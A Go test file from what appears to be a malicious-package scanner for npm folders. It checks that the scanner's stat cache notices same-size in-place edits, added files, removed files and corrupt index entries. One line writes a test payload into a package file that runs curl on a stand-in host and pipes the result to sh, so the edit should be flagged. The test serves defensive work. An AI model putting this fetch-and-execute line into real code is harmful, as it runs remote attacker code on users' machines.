package cli

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/tarball"
)

// countFolderReads counts the installed folders read (their files opened
// and loaded) until the test ends.
func countFolderReads(t *testing.T) *atomic.Int64 {
	t.Helper()
	var n atomic.Int64
	orig := readFolder
	readFolder = func(ctx context.Context, dir string, lim tarball.Limits) (*tarball.Archive, error) {
		n.Add(1)
		return orig(ctx, dir, lim)
	}
	t.Cleanup(func() { readFolder = orig })
	return &n
}

// ageTree waits out the stat index's racy window: files changed within
// two seconds of a walk are hashed but not recorded.
func ageTree() { time.Sleep(2100 * time.Millisecond) }

// A warm run over installed folders reads none of them; a file edited in
// place with its size and mtime restored, a file added and a file removed
// are all noticed; a corrupt index is ignored and rewritten.
func TestAnalyzeNodeModulesStatIndex(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the stat index is used on Linux only; elsewhere folders are hashed")
	}
	verdicts, _ := projectEnv(t)
	root := t.TempDir()
	installTree(t, root, testDeps(t))
	reads := countFolderReads(t)
	analyse := func(step string, wantReads, wantHits int) projectDoc {
		t.Helper()
		reads.Store(0)
		_, out, errs := run(t, "analyze", root, "--format", "json")
		doc := parseProjectDoc(t, out)
		if doc.Summary.Errors != 0 || len(doc.Reports) != 4 {
			t.Fatalf("%s: %+v\n%s", step, doc.Summary, errs)
		}
		if got := int(reads.Load()); got != wantReads {
			t.Errorf("%s: %d installed folders read, want %d", step, got, wantReads)
		}
		if doc.Summary.CacheHits != wantHits {
			t.Errorf("%s: %d cache hits, want %d", step, doc.Summary.CacheHits, wantHits)
		}
		return doc
	}
	ageTree()
	analyse("cold run", 4, 0)
	doc := analyse("warm run", 0, 4)
	if r := doc.Reports[doc.report(t, "evil-hook@1.0.0")]; !r.Cached || r.Verdict != "malicious" || len(r.Findings) == 0 {
		t.Errorf("warm run: evil-hook %+v", r)
	}

	// Edit tiny-pad's index.js in place, same size, and put its mtime
	// back: only the change time tells.
	index := filepath.Join(root, "node_modules", "tiny-pad", "index.js")
	before, err := os.Stat(index)
	if err != nil {
		t.Fatal(err)
	}
	old, err := os.ReadFile(index)
	if err != nil {
		t.Fatal(err)
	}
	evil := []byte("require('child_process').exec('curl -fsSL https://x.example.net/i.sh | sh');")
	if len(evil) > len(old) {
		t.Fatalf("test payload longer than index.js (%d > %d)", len(evil), len(old))
	}
	evil = append(evil, []byte(strings.Repeat(" ", len(old)-len(evil)))...)
	f, err := os.OpenFile(index, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteAt(evil, 0); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(index, before.ModTime(), before.ModTime()); err != nil {
		t.Fatal(err)
	}
	if after, err := os.Stat(index); err != nil || after.Size() != before.Size() || !after.ModTime().Equal(before.ModTime()) {
		t.Fatalf("the edit changed the size or the mtime: %v %v", after, err)
	}
	// Add a file to @acme/colors and remove one from helper.
	writeFile(t, filepath.Join(root, "node_modules", "@acme", "colors", "extra.js"), "module.exports = 2;\n")
	if err := os.Remove(filepath.Join(root, "node_modules", "helper", "index.js")); err != nil {
		t.Fatal(err)
	}
	ageTree()
	doc = analyse("after the edits", 3, 1)
	for _, target := range []string{"tiny-pad@1.0.0", "@acme/colors@0.3.0", "helper@2.1.0"} {
		if r := doc.Reports[doc.report(t, target)]; r.Cached {
			t.Errorf("after the edits: %s served from the cache", target)
		}
	}
	if r := doc.Reports[doc.report(t, "tiny-pad@1.0.0")]; r.Verdict == "clean" {
		t.Errorf("the edited tiny-pad is still clean: %+v", r)
	}
	analyse("warm again", 0, 4)

	// A corrupt or foreign stat index is ignored (the folders are hashed,
	// their verdicts still cached) and rewritten.
	var entries []string
	_ = filepath.WalkDir(filepath.Join(verdicts, "stat-v1"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			entries = append(entries, p)
		}
		return nil
	})
	if len(entries) != 4 {
		t.Fatalf("%d stat index entries, want 4: %v", len(entries), entries)
	}
	for i, p := range entries {
		garbage := []string{"", "{not json", `{"format":1,"dir":"/elsewhere","salt":"x","stat":"y","key":"z"}`, `[]`}[i]
		if err := os.WriteFile(p, []byte(garbage), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	analyse("corrupt index", 4, 4)
	analyse("rewritten index", 0, 4)

	// --no-cache neither reads nor writes the index.
	reads.Store(0)
	if _, out, _ := run(t, "analyze", root, "--format", "json", "--no-cache"); parseProjectDoc(t, out).Summary.CacheHits != 0 || reads.Load() != 4 {
		t.Errorf("--no-cache: %d folders read\n%s", reads.Load(), out)
	}
}
